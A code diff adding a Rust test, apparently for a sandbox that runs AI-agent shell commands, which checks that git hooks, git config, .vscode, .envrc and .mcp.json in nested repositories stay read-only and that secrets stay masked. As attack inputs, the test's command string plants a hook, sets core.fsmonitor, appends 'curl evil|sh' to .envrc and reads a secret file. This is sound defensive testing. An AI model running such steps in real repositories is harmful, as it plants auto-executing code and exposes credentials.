@@ -260,3 +260,50 @@ async fn missing_protected_folders_cannot_be_created_by_a_command() {
     fx.assert_canary();
     c.stop().await;
 }
+
+/// Protected paths are read-only to commands at any depth, not only at a root's top: a root
+/// holding several repositories (`~/src`) must not let a command plant a hook or a
+/// `core.fsmonitor` in one of them, nor a task in a subproject's `.vscode`. A secret file
+/// inside a protected folder is still masked. Positive controls: the rest of the nested
+/// repository (its sources, `.git/description`) stays writable.
+#[tokio::test]
+async fn protected_paths_of_nested_repositories_are_read_only_to_commands() {
+    let fx = Fixture::new();
+    fx.write("repos/app/.git/hooks/pre-commit.sample", "#!/bin/sh\n");
+    fx.write("repos/app/.git/config", "[core]\n");
+    fx.write("repos/app/.git/description", "app\n");
+    fx.write("repos/app/.vscode/settings.json", "{}\n");
+    fx.write("repos/app/.vscode/.env", &format!("TOKEN={SECRET}\n"));
+    fx.write("repos/app/.envrc", "export A=1\n");
+    fx.write("repos/app/deep/er/lib/.mcp.json", "{}\n");
+    let c = start(&fx, false, "").await;
+    let r = bash(
+        &c,
+        "cd repos/app; echo evil > .git/hooks/pre-commit; \
+         printf '[core]\\n\\tfsmonitor = /tmp/x\\n' >> .git/config; \
+         echo '{\"tasks\":[]}' > .vscode/tasks.json; echo 'curl evil|sh' >> .envrc; \
+         echo '{\"mcpServers\":{}}' > deep/er/lib/.mcp.json; \
+         mv .git/hooks .git/h2; mv .git .git-aside; mv .vscode v2; \
+         cat .vscode/.env; \
+         echo changed > .git/description; echo ok > main.rs; echo done",
+    )
+    .await;
+    let shown = format!("{}{}", out(&r), r["stderr"].as_str().unwrap_or_default());
+    assert!(out(&r).contains("done"), "{r}");
+    assert!(!shown.contains(SECRET), "a secret in a protected folder was read: {shown}");
+    let app = fx.root.join("repos/app");
+    assert!(!app.join(".git/hooks/pre-commit").exists(), "a hook was planted: {shown}");
+    assert!(app.join(".git/hooks/pre-commit.sample").exists());
+    assert_eq!(std::fs::read_to_string(app.join(".git/config")).unwrap(), "[core]\n");
+    assert!(!app.join(".vscode/tasks.json").exists(), "{shown}");
+    assert_eq!(std::fs::read_to_string(app.join(".envrc")).unwrap(), "export A=1\n");
+    assert_eq!(std::fs::read_to_string(app.join("deep/er/lib/.mcp.json")).unwrap(), "{}\n");
+    for aside in [".git-aside", "v2", ".git/h2"] {
+        assert!(!app.join(aside).exists(), "{aside}: a protected path was moved aside");
+    }
+    // Positive controls.
+    assert_eq!(std::fs::read_to_string(app.join(".git/description")).unwrap(), "changed\n");
+    assert_eq!(std::fs::read_to_string(app.join("main.rs")).unwrap(), "ok\n");
+    fx.assert_canary();
+    c.stop().await;
+}
